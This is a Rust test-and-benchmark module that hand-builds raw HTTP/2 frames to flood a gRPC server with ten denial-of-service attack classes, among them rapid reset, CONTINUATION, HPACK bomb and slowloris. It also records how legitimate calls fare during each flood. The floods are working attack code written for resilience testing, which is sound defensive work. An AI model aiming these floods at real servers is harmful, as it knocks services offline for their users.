//! HTTP/2 floods: the denial-of-service classes a gRPC server meets on the open internet, each
//! an attacker writing raw frames on its own connections, and the legitimate callers whose
//! calls must go on meanwhile.
//!
//! A [`Flood`] runs on a thread and runtime of its own ([`Flood::start`]), so that it competes
//! with the server for the machine's cores as a separate attacker would, not for the server's
//! tokio workers. Each lane opens a connection, floods it until the server closes it (or the
//! attack stops), and opens the next: a server that closes an abusive connection is met with
//! another, as it would be. [`legit_calls`] makes ordinary unary calls on a connection of their
//! own beside the flood and records each call's latency and outcome.
//!
//! The floods are written by hand (a few bytes of HPACK and frame headers each), not with an
//! HTTP/2 library, because a library refuses to send what an attacker sends. The server tests
//! (`tests/tests/server_connections/floods.rs`) and the bench (scenario 10, beside a plain
//! tonic server) use the same attackers.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use jovian_examples::{GreeterClient, HelloRequest};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedWriteHalf;
use tokio_util::sync::CancellationToken;

use crate::h2peer::{ACK, END_HEADERS, END_STREAM, PREFACE, code, frame, grpc_frame, header_block, kind};

/// One class of HTTP/2 flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Streams opened and reset at once (CVE-2023-44487): the server starts work it never
    /// finishes.
    RapidReset,
    /// Streams opened, then a frame that makes the *server* reset them (a WINDOW_UPDATE of 0 on
    /// the stream; CVE-2025-8671): the reset budget for the client's own resets never sees
    /// them.
    MadeYouReset,
    /// One header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames
    /// forever (CVE-2024-27316 and kin).
    Continuation,
    /// An HPACK bomb: a 4,000-byte header put in the dynamic table once, then referenced with
    /// one byte thousands of times per request, so each 16 KiB header block decodes to 16 MB.
    Hpack,
    /// SETTINGS frames as fast as the socket takes them; each must be acknowledged.
    Settings,
    /// PING frames as fast as the socket takes them; each must be answered.
    Ping,
    /// WINDOW_UPDATE frames of 1 on the connection, as fast as the socket takes them.
    WindowUpdate,
    /// Streams opened (a request's HEADERS, no body) and never finished, a thousand per
    /// connection on four connections: they hold the server's per-stream state.
    StreamExhaustion,
    /// Calls whose answers the attacker never reads: a flow-control window of 0, and the socket
    /// left unread. (The requests stay within the 64 KiB the server's connection window holds
    /// before it is opened wider: the attacker reads nothing, not even WINDOW_UPDATEs.)
    SlowRead,
    /// Connections that dribble a byte every 100 ms: half of them the connection preface, half
    /// a frame after a finished handshake.
    Slowloris,
}

impl Flood {
    /// Every class, in the order the tests and the bench report them.
    pub const ALL: [Flood; 10] = [
        Flood::RapidReset,
        Flood::MadeYouReset,
        Flood::Continuation,
        Flood::Hpack,
        Flood::Settings,
        Flood::Ping,
        Flood::WindowUpdate,
        Flood::StreamExhaustion,
        Flood::SlowRead,
        Flood::Slowloris,
    ];

    /// A short name for reports.
    pub fn name(self) -> &'static str {
        match self {
            Flood::RapidReset => "rapid reset",
            Flood::MadeYouReset => "made-you-reset",
            Flood::Continuation => "CONTINUATION",
            Flood::Hpack => "HPACK bomb",
            Flood::Settings => "SETTINGS",
            Flood::Ping => "PING",
            Flood::WindowUpdate => "WINDOW_UPDATE",
            Flood::StreamExhaustion => "stream exhaustion",
            Flood::SlowRead => "slow read",
            Flood::Slowloris => "slowloris",
        }
    }

    /// How many connections the attacker keeps open at once.
    fn lanes(self) -> usize {
        match self {
            Flood::StreamExhaustion | Flood::SlowRead => 4,
            Flood::Slowloris => 64,
            _ => 2,
        }
    }

    /// Starts the flood against `addr` on a thread of its own.
    pub fn start(self, addr: SocketAddr) -> Attack {
        let stop = CancellationToken::new();
        let tally = Arc::new(Tally::default());
        let thread = {
            let (stop, tally) = (stop.clone(), tally.clone());
            std::thread::Builder::new()
                .name(format!("flood: {}", self.name()))
                .spawn(move || {
                    let runtime = tokio::runtime::Builder::new_current_thread()
                        .enable_all()
                        .build()
                        .expect("the attacker's runtime");
                    runtime.block_on(async {
                        let lanes: Vec<_> = (0..self.lanes())
                            .map(|lane| tokio::spawn(attack_lane(self, lane, addr, stop.clone(), tally.clone())))
                            .collect();
                        for lane in lanes {
                            let _ = lane.await;
                        }
                    });
                })
                .expect("the attacker's thread")
        };
        Attack {
            flood: self,
            stop,
            tally,
            thread: Some(thread),
        }
    }
}

/// What an attack did.
#[derive(Debug, Default)]
pub struct Tally {
    /// Connections the attacker opened.
    pub connections: AtomicU64,
    /// Connections the server closed while the attack went on.
    pub closed_by_server: AtomicU64,
    /// Bytes the server took from the attacker.
    pub bytes_sent: AtomicU64,
}

/// A flood under way; [`Attack::stop`] ends it (dropping it does too, without waiting).
pub struct Attack {
    flood: Flood,
    stop: CancellationToken,
    tally: Arc<Tally>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Attack {
    /// The flood's class.
    pub fn flood(&self) -> Flood {
        self.flood
    }

    /// What it did so far.
    pub fn tally(&self) -> &Tally {
        &self.tally
    }

    /// Stops the attacker, closes its connections and waits for its thread.
    pub async fn stop(mut self) -> Arc<Tally> {
        self.stop.cancel();
        if let Some(thread) = self.thread.take() {
            tokio::task::spawn_blocking(move || thread.join())
                .await
                .expect("the attacker's thread")
                .expect("the attacker did not panic");
        }
        self.tally.clone()
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop.cancel();
    }
}

/// One connection after another, each flooded until the server closes it.
async fn attack_lane(flood: Flood, lane: usize, addr: SocketAddr, stop: CancellationToken, tally: Arc<Tally>) {
    while !stop.is_cancelled() {
        let Ok(stream) = TcpStream::connect(addr).await else {
            // Out of ports or refused: the server is not the one failing here; try again soon.
            tokio::select! {
                () = stop.cancelled() => return,
                () = tokio::time::sleep(Duration::from_millis(10)) => continue,
            }
        };
        tally.connections.fetch_add(1, Ordering::Relaxed);
        let (mut read, write) = stream.into_split();
        let closed = Arc::new(AtomicBool::new(false));
        // The server's frames are read and thrown away, as fast as it writes them: the server
        // does all the work the flood asks for. The slow reader alone leaves them unread.
        let reader = (flood != Flood::SlowRead).then(|| {
            let closed = closed.clone();
            tokio::spawn(async move {
                let mut sink = vec![0u8; 64 * 1024];
                while matches!(read.read(&mut sink).await, Ok(n) if n > 0) {}
                closed.store(true, Ordering::Relaxed);
            })
        });
        let mut writer = Writer {
            write,
            tally: tally.clone(),
        };
        let outcome = tokio::select! {
            () = stop.cancelled() => Ok(()),
            result = flood_connection(flood, lane, &mut writer) => result,
        };
        let server_closed = outcome.is_err() || closed.load(Ordering::Relaxed);
        if server_closed && !stop.is_cancelled() {
            tally.closed_by_server.fetch_add(1, Ordering::Relaxed);
        }
        if let Some(reader) = reader {
            reader.abort();
        }
    }
}

/// The attacker's half of a connection, counting what the server took.
struct Writer {
    write: OwnedWriteHalf,
    tally: Arc<Tally>,
}

impl Writer {
    async fn send(&mut self, bytes: &[u8]) -> std::io::Result<()> {
        self.write.write_all(bytes).await?;
        self.tally.bytes_sent.fetch_add(bytes.len() as u64, Ordering::Relaxed);
        Ok(())
    }

    /// The client preface and an empty SETTINGS frame, with the server's SETTINGS acknowledged
    /// blindly (an attacker need not read them).
    async fn handshake(&mut self, settings: &[(u16, u32)]) -> std::io::Result<()> {
        let mut start = PREFACE.to_vec();
        start.extend(settings_frame(settings));
        start.extend(frame(kind::SETTINGS, ACK, 0, &[]));
        self.send(&start).await
    }
}

/// Floods one connection; returns when the attack is over for it: `Err` when the server
/// closed it, `Ok` when the flood is one that then just holds the connection open.
async fn flood_connection(flood: Flood, lane: usize, writer: &mut Writer) -> std::io::Result<()> {
    const BATCH: u32 = 100;
    let request = request_block("/helloworld.Greeter/SayHello");
    match flood {
        Flood::RapidReset | Flood::MadeYouReset => {
            writer.handshake(&[]).await?;
            let mut stream = 1u32;
            loop {
                let mut batch = Vec::new();
                for _ in 0..BATCH {
                    batch.extend(frame(kind::HEADERS, END_HEADERS, stream, &request));
                    if flood == Flood::RapidReset {
                        batch.extend(frame(kind::RST_STREAM, 0, stream, &code::CANCEL.to_be_bytes()));
                    } else {
                        batch.extend(frame(kind::WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes()));
                    }
                    stream = next_stream(stream)?;
                }
                writer.send(&batch).await?;
            }
        }
        Flood::Continuation => {
            writer.handshake(&[]).await?;
            writer.send(&frame(kind::HEADERS, 0, 1, &request)).await?;
            // A literal without indexing, its 16,000-byte value to follow.
            let mut field = vec![0x00];
            field.extend(hpack_string(b"x-c"));
            field.extend(hpack_length(16_000));
            field.resize(field.len() + 16_000, b'v');
            let continuation = frame(kind::CONTINUATION, 0, 1, &field);
            loop {
                writer.send(&continuation).await?;
            }
        }
        Flood::Hpack => {
            writer.handshake(&[]).await?;
            // The first block puts the 4,000-byte header in the dynamic table (index 62); every
            // block refers to it thousands of times, one byte each.
            let mut first = request.clone();
            first.push(0x40);
            first.extend(hpack_string(b"x-bomb"));
            first.extend(hpack_length(4_000));
            first.resize(first.len() + 4_000, b'b');
            first.resize(first.len() + 12_000, 0x80 | 62);
            writer
                .send(&frame(kind::HEADERS, END_HEADERS | END_STREAM, 1, &first))
                .await?;
            let mut block = request.clone();
            block.resize(block.len() + 16_000, 0x80 | 62);
            let mut stream = 3u32;
            loop {
                let mut batch = Vec::new();
                for _ in 0..10 {
                    batch.extend(frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block));
                    stream = next_stream(stream)?;
                }
                writer.send(&batch).await?;
            }
        }
        Flood::Settings | Flood::Ping | Flood::WindowUpdate => {
            writer.handshake(&[]).await?;
            let one = match flood {
                Flood::Settings => settings_frame(&[(SETTINGS_INITIAL_WINDOW_SIZE, 65_535)]),
                Flood::Ping => frame(kind::PING, 0, 0, &[7; 8]),
                _ => frame(kind::WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
            };
            let batch = one.repeat(BATCH as usize);
            loop {
                writer.send(&batch).await?;
            }
        }
        Flood::StreamExhaustion => {
            writer.handshake(&[]).await?;
            let mut batch = Vec::new();
            let mut stream = 1u32;
            for _ in 0..1_000 {
                batch.extend(frame(kind::HEADERS, END_HEADERS, stream, &request));
                stream += 2;
            }
            writer.send(&batch).await?;
            hold(writer).await
        }
        Flood::SlowRead => {
            writer.handshake(&[(SETTINGS_INITIAL_WINDOW_SIZE, 0)]).await?;
            let message = grpc_frame(&hello(&"s".repeat(500)));
            let mut batch = Vec::new();
            let mut stream = 1u32;
            for _ in 0..BATCH {
                batch.extend(frame(kind::HEADERS, END_HEADERS, stream, &request));
                batch.extend(frame(kind::DATA, END_STREAM, stream, &message));
                stream += 2;
            }
            writer.send(&batch).await?;
            hold(writer).await
        }
        Flood::Slowloris => {
            let dribble = if lane.is_multiple_of(2) {
                PREFACE.to_vec()
            } else {
                writer.handshake(&[]).await?;
                frame(kind::HEADERS, END_HEADERS, 1, &request)
            };
            for byte in dribble.iter().cycle() {
                writer.send(&[*byte]).await?;
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            Ok(())
        }
    }
}

/// Keeps a connection open, doing nothing, until the server closes it or the attack stops.
async fn hold(writer: &mut Writer) -> std::io::Result<()> {
    loop {
        tokio::time::sleep(Duration::from_millis(500)).await;
        // An empty write notices nothing; a zero-length DATA frame on the connection would be
        // a protocol error. A PING notices a closed socket and costs the server one answer.
        writer.send(&frame(kind::PING, 0, 0, &[0; 8])).await?;
    }
}

/// The next client stream id, or an error once ids run out (the connection is spent).
fn next_stream(stream: u32) -> std::io::Result<u32> {
    match stream.checked_add(2) {
        Some(next) if next < 1 << 31 => Ok(next),
        _ => Err(std::io::Error::other("stream ids spent")),
    }
}

/// One call made with the attackers' hand-made frames (their header block, a `HelloRequest`
/// for `name`), returning the DATA the server answered on the stream: proof that the floods'
/// requests are requests the server serves, not junk refused at the door.
pub async fn hand_made_call(addr: SocketAddr, name: &str) -> std::io::Result<Vec<u8>> {
    let stream = TcpStream::connect(addr).await?;
    let (mut read, write) = stream.into_split();
    let mut writer = Writer {
        write,
        tally: Arc::default(),
    };
    writer.handshake(&[]).await?;
    let mut call = frame(
        kind::HEADERS,
        END_HEADERS,
        1,
        &request_block("/helloworld.Greeter/SayHello"),
    );
    call.extend(frame(kind::DATA, END_STREAM, 1, &grpc_frame(&hello(name))));
    writer.send(&call).await?;
    let mut bytes = Vec::new();
    let mut chunk = [0u8; 4096];
    let mut answer = Vec::new();
    loop {
        let n = read.read(&mut chunk).await?;
        if n == 0 {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
        bytes.extend_from_slice(&chunk[..n]);
        while bytes.len() >= 9 {
            let length = u32::from_be_bytes([0, bytes[0], bytes[1], bytes[2]]) as usize;
            if bytes.len() < 9 + length {
                break;
            }
            let (kind, flags, stream) = (
                bytes[3],
                bytes[4],
                u32::from_be_bytes([bytes[5], bytes[6], bytes[7], bytes[8]]),
            );
            if stream == 1 && kind == kind::DATA {
                answer.extend_from_slice(&bytes[9..9 + length]);
            }
            if stream == 1 && flags & END_STREAM != 0 {
                return Ok(answer);
            }
            bytes.drain(..9 + length);
        }
    }
}

/// What ordinary callers saw beside a flood.
#[derive(Debug, Default)]
pub struct Legit {
    /// Each answered call's latency, in the order they finished.
    pub latencies: Vec<Duration>,
    /// Each failed call's status.
    pub failures: Vec<tonic::Status>,
}

impl Legit {
    /// The `q` quantile (0.5 for the median) of the answered calls' latencies.
    pub fn quantile(&self, q: f64) -> Duration {
        let mut sorted = self.latencies.clone();
        sorted.sort();
        if sorted.is_empty() {
            return Duration::ZERO;
        }
        let index = ((sorted.len() as f64 * q).ceil() as usize).clamp(1, sorted.len()) - 1;
        sorted[index]
    }
}

/// `callers` callers on one connection of their own make unary calls to `addr` for `duration`,
/// each call with `deadline`, pausing `pace` between calls (calls at a steady rate below what
/// the server can take, so latency is the server's, not a queue of the callers' making).
pub async fn legit_calls(
    addr: SocketAddr,
    callers: usize,
    duration: Duration,
    pace: Duration,
    deadline: Duration,
) -> Legit {
    let channel = tonic::transport::Endpoint::from_shared(format!("http://{addr}"))
        .expect("an endpoint")
        .connect_timeout(deadline)
        .connect_lazy();
    let until = Instant::now() + duration;
    let callers: Vec<_> = (0..callers)
        .map(|_| {
            let mut client = GreeterClient::new(channel.clone());
            tokio::spawn(async move {
                let mut seen = Legit::default();
                while Instant::now() < until {
                    let mut request = tonic::Request::new(HelloRequest { name: "legit".into() });
                    request.set_timeout(deadline);
                    let started = Instant::now();
                    match tokio::time::timeout(deadline, client.say_hello(request)).await {
                        Ok(Ok(_)) => seen.latencies.push(started.elapsed()),
                        Ok(Err(status)) => seen.failures.push(status),
                        Err(_) => seen
                            .failures
                            .push(tonic::Status::deadline_exceeded("no answer in time")),
                    }
                    tokio::time::sleep(pace).await;
                }
                seen
            })
        })
        .collect();
    let mut all = Legit::default();
    for caller in callers {
        let seen = caller.await.expect("a legitimate caller");
        all.latencies.extend(seen.latencies);
        all.failures.extend(seen.failures);
    }
    all
}

// ---------------------------------------------------------------------------------------------
// Frames and HPACK, by hand

const SETTINGS_INITIAL_WINDOW_SIZE: u16 = 0x4;

fn settings_frame(settings: &[(u16, u32)]) -> Vec<u8> {
    let payload: Vec<u8> = settings
        .iter()
        .flat_map(|(id, value)| id.to_be_bytes().into_iter().chain(value.to_be_bytes()))
        .collect();
    frame(kind::SETTINGS, 0, 0, &payload)
}

/// A gRPC request's header block.
fn request_block(path: &str) -> Vec<u8> {
    header_block(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "flood"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ])
}

/// An HPACK string literal, not Huffman-coded.
fn hpack_string(bytes: &[u8]) -> Vec<u8> {
    let mut string = hpack_length(bytes.len());
    string.extend_from_slice(bytes);
    string
}

/// An HPACK integer with a 7-bit prefix (RFC 7541 §5.1), the Huffman bit clear.
fn hpack_length(mut value: usize) -> Vec<u8> {
    if value < 127 {
        return vec![value as u8];
    }
    let mut bytes = vec![127];
    value -= 127;
    while value >= 128 {
        bytes.push((value % 128) as u8 | 0x80);
        value /= 128;
    }
    bytes.push(value as u8);
    bytes
}

/// A `HelloRequest { name }` in protobuf.
fn hello(name: &str) -> Vec<u8> {
    let mut message = vec![0x0a];
    let mut length = name.len();
    while length >= 0x80 {
        message.push((length as u8 & 0x7f) | 0x80);
        length >>= 7;
    }
    message.push(length as u8);
    message.extend_from_slice(name.as_bytes());
    message
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hpack_lengths_follow_rfc_7541() {
        // RFC 7541 C.1.2: 1337 with a 5-bit prefix is 31, 154, 10; with 7 bits it is 127, 186, 9.
        assert_eq!(hpack_length(10), [10]);
        assert_eq!(hpack_length(127), [127, 0]);
        assert_eq!(hpack_length(1337), [127, 186, 9]);
    }

    #[test]
    fn hello_is_protobuf() {
        use prost::Message;
        let name = "n".repeat(300);
        let decoded = jovian_examples::HelloRequest::decode(&hello(&name)[..]).unwrap();
        assert_eq!(decoded.name, name);
    }
}
